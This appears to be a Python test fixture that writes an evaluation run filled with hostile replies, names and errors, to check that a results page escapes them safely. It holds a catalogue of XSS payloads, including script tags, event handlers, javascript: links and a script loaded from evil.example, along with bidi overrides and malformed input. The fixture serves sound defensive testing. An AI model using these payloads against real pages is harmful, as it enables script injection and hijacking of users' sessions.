"""Replies that attack the page in which they are shown, and a run that consists of them."""

from dataclasses import replace
from pathlib import Path

from runner.storage import journal
from tests.support.crafted_runs import answered, header

REPLIES = {
    "script": "<script>window.hacked = 1</script><SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "handler": "<img src=x onerror='window.hacked = 1'> <b onmouseover=window.hacked=1>over</b> <body onload=alert(1)>",
    "links": "[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) [c](JaVaScRiPt:alert(1)) "
    "[d](vbscript:x) [e](file:///etc/passwd) [f](//evil.example) [g](#replies) <javascript:alert(1)> "
    "[good](https://good.example/path?q=1 'title \" onclick=window.hacked=1')",
    "images": "![pixel](http://evil.example/p.png) ![x](data:image/svg+xml;base64,PHN2Zz4=) "
    "[![inner](http://evil.example/q.png)](http://evil.example)\n\n![ref]\n\n[ref]: http://evil.example/r.png",
    "svg": "<svg onload=window.hacked=1><animate onbegin=window.hacked=1 /></svg><math><mi xlink:href='javascript:1'>",
    "unclosed": "</td></tr></table></main></body></html><table><td><div><form action=http://evil.example><textarea>",
    "style": "<style>*{display:none}</style> <p style='position:fixed;inset:0'>x</p> </style><link rel=stylesheet "
    "href=http://evil.example/x.css>",
    "templates": "{{ 7 * 7 }} {% raw %} ${7*7} </template></script><!-- <script> --> ]]> --> \u2028 \u2029 &lt;i&gt;",
    "override": "left \u202etxt.exe\u202c and \u2067isolated\u2069 \u200f\u200e שלום עולם, مرحبا \u202e never closed",
    "fences": "````html\n```js\n<script>window.hacked = 1</script>\n```\n~~~\n````\n```\nnever closed </script>",
    "half": "half an emoji \ud83d, a NUL \0, an escape \x1b[31m\x9b, a bell \x07, DEL \x7f, \ufeff\ufffe",
    "line": "wide" * 250_000,
    "zalgo": "Z" + "\u0300\u0316" * 2000 + " and 㐀中文" * 200,
    "deep": ">" * 3000 + "- " * 2000 + "[" * 5000,
    "headings": "# One\n# Two\n\nSetext\n===\n\n| a | b |\n|---|---|\n| <script>alert(1)</script> | `</td>` |\n",
}
"""Name of an attack -> reply."""

TARGETS = ("acme/<b onclick=x>", "acme/\"quoted' & name", "acme/模型\u202e一号")


def write_hostile_run(folder: Path) -> Path:
    """Write a run in which every text is hostile, names and errors included; return its folder."""
    with journal.JournalWriter(folder) as log:
        log.append_header(
            header(
                "hostile", TARGETS, suite="</title><script>x</script>", cases=tuple(REPLIES), platform="<i>machine</i>"
            )
        )
        for name, reply in REPLIES.items():
            for target in TARGETS:
                record = answered(target, name, 1, reply=reply)
                identity = replace(record.identity, prompt=reply[:2000])
                log.append_record(replace(record, identity=identity, reasoning=reply[:2000], error=reply[:300]))
                log.append_record(
                    replace(
                        answered(target, name, 2, reply=f"{reply[:500]} again"),
                        identity=replace(identity, repeat=2, block=2),
                    )
                )
        log.append({"kind": "end"})
    return folder
